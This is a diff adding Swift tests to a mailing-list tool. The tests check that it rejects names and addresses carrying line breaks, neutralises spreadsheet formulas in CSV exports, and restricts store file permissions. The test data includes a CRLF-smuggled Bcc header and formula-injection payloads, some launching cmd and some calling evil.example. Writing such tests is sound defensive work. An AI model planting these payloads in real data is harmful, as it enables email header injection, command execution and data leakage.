@@ -53,7 +53,7 @@ let formConsent = Subscriber.Consent(at: Date(timeIntervalSince1970: 1_767_000_0
         let (store, folder) = try temporaryStore()
         let (s, _) = try store.requestSubscription(email: "grace.hopper@example.com", name: "Grace Hopper", consent: formConsent, actor: "form")
         try store.confirm(publicID: s.publicID)
-        #expect(try store.forget(email: "grace.hopper@example.com"))
+        #expect(try store.forget(email: "grace.hopper@example.com").found)
         #expect(try store.subscriber(email: "grace.hopper@example.com") == nil)
         for name in try FileManager.default.contentsOfDirectory(atPath: folder.path) {
             let bytes = try Data(contentsOf: folder.appendingPathComponent(name))
@@ -202,5 +202,180 @@ let formConsent = Subscriber.Consent(at: Date(timeIntervalSince1970: 1_767_000_0
         #expect(SubscriberStore.fastDate("2025-03-01") == iso.date(from: "2025-03-01T00:00:00Z"))
         #expect(SubscriberStore.fastDate("2025-02-30") == nil)
         #expect(SubscriberStore.parseDate("2025-03-01T10:05:00+02:00") == iso.date(from: "2025-03-01T08:05:00Z"))
+    }
+}
+
+/// Issue #11, item 2: a name saved with a line break put CRLF into the `To` header of every
+/// later issue, and the send stopped there. Such names and addresses never get in.
+@Suite struct HostileNameTests {
+    @Test func subscribingWithALineBreakInTheNameIsRefusedWithASentence() throws {
+        let (store, _) = try temporaryStore()
+        do {
+            try store.requestSubscription(email: "mallory@example.com", name: "M\r\nX", consent: formConsent, actor: "form")
+            Issue.record("expected a refusal")
+        } catch let error as HogMailError {
+            #expect(error.message == "The name `M\\u{D}\\u{A}X` contains a carriage return (U+000D); a name must be one line of text without control characters. Remove it.")
+        }
+        #expect(try store.subscriber(email: "mallory@example.com") == nil)
+    }
+
+    @Test(arguments: ["M\nX", "M\rX", "M\u{0}X", "M\tX", "M\u{1B}[31mX", "M\u{7F}X", "M\u{85}X", "M\u{2028}X", "M\u{2029}X"])
+    func controlCharactersAndLineSeparatorsInANameAreRefused(name: String) {
+        #expect(Subscriber.validateName(name) != nil)
+    }
+
+    @Test(arguments: ["Ada Lovelace", "Zoë Ö'Brien, Jr.", "李小龙", "Ada 👩🏽‍💻", "=HYPERLINK(\"x\")", String(repeating: "a", count: 200)])
+    func ordinaryNamesAreAccepted(name: String) {
+        #expect(Subscriber.validateName(name) == nil)
+    }
+
+    @Test func aNameLongerThan200CharactersIsRefused() {
+        #expect(Subscriber.validateName(String(repeating: "é", count: 201))?.contains("201 characters") == true)
+        // One character made of thousands of combining marks is too long as well.
+        #expect(Subscriber.validateName("a" + String(repeating: "\u{301}", count: 2_000)) != nil)
+    }
+
+    @Test func anAddressWithALineBreakIsRefusedEvenAtItsEnd() throws {
+        let (store, _) = try temporaryStore()
+        #expect(Subscriber.validateAddress("ada@example.com\r\n")?.contains("carriage return") == true)
+        #expect(Subscriber.validateAddress(" ada@example.com ") == nil)
+        #expect(throws: HogMailError.self) {
+            try store.requestSubscription(email: "ada@example.com\r\nBcc: all@example.com", name: nil, consent: formConsent, actor: "form")
+        }
+    }
+
+    @Test func importRefusesARowWhoseNameHasALineBreakAndKeepsTheOthers() throws {
+        let (store, _) = try temporaryStore()
+        let url = FileManager.default.temporaryDirectory.appendingPathComponent("import-\(UUID().uuidString).csv")
+        try Data("""
+            email,name,consented_at,consent_source,confirmed_at\r
+            ada@example.com,Ada,2025-03-01,form,2025-03-01\r
+            mallory@example.com,"M\r
+            X",2025-03-01,form,2025-03-01\r
+            grace@example.com,Grace,2025-03-01,form,2025-03-01\r
+
+            """.utf8).write(to: url)
+        let report = try store.importCSV(at: url, displayPath: "list.csv")
+        #expect(report.confirmed == 2)
+        #expect(report.refused == [.invalidName: 1])
+        #expect(report.problems.map(\.row) == [3])
+        #expect(report.problems.first?.reason.contains("carriage return") == true)
+        #expect(try store.subscriber(email: "mallory@example.com") == nil)
+    }
+}
+
+/// Issue #11, item 5: `subscribers list --format csv` wrote `=HYPERLINK(…)` as it was, and a
+/// name with CRLF broke its row.
+@Suite struct CSVExportTests {
+    @Test func cellsThatWouldRunAsFormulasStartWithAQuote() {
+        #expect(CSVWriter.field("=HYPERLINK(\"http://evil.example\",\"x\")") == "\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\"")
+        #expect(CSVWriter.field("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0")
+        #expect(CSVWriter.field("@SUM(1+1)") == "'@SUM(1+1)")
+        #expect(CSVWriter.field("-2+3") == "'-2+3")
+        #expect(CSVWriter.field("\tx") == "'\tx")
+        #expect(CSVWriter.field("\r=1") == "\"'\r=1\"")
+        #expect(CSVWriter.field("Ada Lovelace") == "Ada Lovelace")
+    }
+
+    @Test func fieldsWithQuotesCommasAndLineBreaksAreQuotedAndLinesEndInCRLF() {
+        #expect(CSVWriter.line(["Hopper, Grace", "say \"hi\"", "two\r\nlines", "plain"]) == "\"Hopper, Grace\",\"say \"\"hi\"\"\",\"two\r\nlines\",plain\r\n")
+    }
+
+    @Test func theImporterTakesOffExactlyTheQuoteTheWriterAdded() {
+        for value in ["=1+1", "'=1+1", "''@x", "'hello", "'", "-ada@example.com", "plain"] {
+            #expect(CSVWriter.unguard(CSVWriter.field(value)) == value, "\(value)")
+        }
+    }
+
+    @Test func exportImportsIntoAFreshStoreAsItWas() throws {
+        let (source, folder) = try temporaryStore()
+        let hostile: [(email: String, name: String, source: String, confirm: Bool)] = [
+            ("ada@example.com", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "form\r\nsecond line", true),
+            ("-dash@example.com", "+cmd|' /C calc'!A0", "=cmd|' /C notepad'!A0", true),
+            ("grace@example.com", "Hopper, \"Amazing\" Grace", "@SUM(1+1)", false),
+            ("quote@example.com", "'=already quoted", "-import, row 3", true),
+            ("tab@example.com", "Zoë", "\tindented source", true),
+        ]
+        for person in hostile {
+            let consent = Subscriber.Consent(at: Date(timeIntervalSince1970: 1_767_000_000), method: .form, source: person.source,
+                                             text: "=consent \"text\"\r\nline two", ip: "+1", userAgent: "@agent")
+            let (s, _) = try source.requestSubscription(email: person.email, name: person.name, consent: consent, actor: "form")
+            if person.confirm { try source.confirm(publicID: s.publicID, now: Date(timeIntervalSince1970: 1_767_000_100)) }
+        }
+        var csv = ""
+        try source.exportCSV { csv += $0 }
+        let file = folder.appendingPathComponent("export.csv")
+        try Data(csv.utf8).write(to: file)
+
+        let (target, _) = try temporaryStore()
+        let report = try target.importCSV(at: file, displayPath: "export.csv")
+        #expect(report.refusedTotal == 0, "\(report.problems)")
+        #expect(report.confirmed == 4)
+        #expect(report.pending == 1)
+        for person in hostile {
+            let before = try #require(try source.subscriber(email: person.email))
+            let after = try #require(try target.subscriber(email: person.email))
+            #expect(after.name == before.name)
+            #expect(after.status == before.status)
+            #expect(after.consent.at == before.consent.at)
+            #expect(after.consent.confirmedAt == before.consent.confirmedAt)
+            #expect(after.consent.source.hasPrefix(before.consent.source + " (imported from export.csv, row "))
+            #expect(after.consent.text == before.consent.text)
+            #expect(after.consent.ip == before.consent.ip)
+            #expect(after.consent.userAgent == before.consent.userAgent)
+        }
+    }
+
+    @Test func noExportedCellStartsLikeAFormulaAndEveryRowStaysWhole() throws {
+        let (store, folder) = try temporaryStore()
+        let consent = Subscriber.Consent(at: Date(), method: .form, source: "=WEBSERVICE(\"http://evil.example\")\r\n@x")
+        try store.requestSubscription(email: "ada@example.com", name: "@SUM(1+1)", consent: consent, actor: "form")
+        var csv = ""
+        try store.exportCSV { csv += $0 }
+        let file = folder.appendingPathComponent("export.csv")
+        try Data(csv.utf8).write(to: file)
+        var reader = try CSVReader(url: file)
+        defer { reader.close() }
+        var records: [[String]] = []
+        while let record = try reader.next() { records.append(record) }
+        #expect(records.count == 2)
+        #expect(records.allSatisfy { $0.count == SubscriberCSV.columns.count })
+        for cell in records.joined() {
+            #expect(cell.first.map { !"=+-@\t\r".contains($0) } ?? true, "\(cell)")
+        }
+    }
+
+    @Test func anExportedRowOfSomeoneWhoLeftIsNotImportedAsSubscribed() throws {
+        let (store, _) = try temporaryStore()
+        let url = FileManager.default.temporaryDirectory.appendingPathComponent("import-\(UUID().uuidString).csv")
+        try Data("email,status,consented_at,consent_source,confirmed_at\r\nleft@example.com,unsubscribed,2025-03-01,form,2025-03-01\r\nbounced@example.com,Bounced,2025-03-01,form,2025-03-01\r\n".utf8).write(to: url)
+        let report = try store.importCSV(at: url, displayPath: "backup.csv")
+        #expect(report.refused == [.suppressed: 2])
+        #expect(try store.subscriber(email: "left@example.com") == nil)
+    }
+}
+
+/// Issue #11, item 12: the store and its log were 0644, readable by every account on the machine.
+@Suite struct StoreFileModeTests {
+    func mode(_ path: String) -> mode_t? { PrivateFiles.mode(ofPath: path) }
+
+    @Test func aNewStoreItsLogAndItsFolderAreForTheOwnerOnly() throws {
+        let (store, folder) = try temporaryStore()
+        try store.requestSubscription(email: "ada@example.com", name: "Ada", consent: formConsent, actor: "form")
+        #expect(mode(folder.path) == 0o700)
+        #expect(mode(store.path) == 0o600)
+        #expect(mode(store.path + "-wal") == 0o600)
+        #expect(mode(store.path + "-shm") == 0o600)
+    }
+
+    @Test func anOldStoreReadableByEveryoneIsClosedToOthers() throws {
+        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("hogmail-store-\(UUID().uuidString)")
+        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
+        let path = folder.appendingPathComponent("hogmail.sqlite").path
+        #expect(FileManager.default.createFile(atPath: path, contents: nil, attributes: [.posixPermissions: 0o644]))
+        let store = try SubscriberStore(path: path)
+        #expect(mode(path) == 0o640)
+        #expect(mode(path + "-wal") == 0o640)
+        withExtendedLifetime(store) {}
     }
 }
